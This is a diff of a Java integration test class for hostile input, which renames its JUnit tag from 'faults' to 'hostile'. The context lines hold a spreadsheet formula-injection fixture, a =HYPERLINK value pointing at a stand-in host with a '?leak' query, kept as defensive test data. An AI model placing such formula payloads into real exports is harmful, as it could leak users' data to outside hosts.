@@ -38,7 +38,7 @@ import org.junit.jupiter.api.io.TempDir;
  *       mount a tmpfs, and are skipped without it).</li>
  * </ul>
  */
-@Tag("faults")
+@Tag("hostile")
 class HostileInputIT {
     static final Duration RUN = Duration.ofMinutes(8);
     static final String HYPERLINK = "=HYPERLINK(\"http://x.example/?leak\",\"click\")";
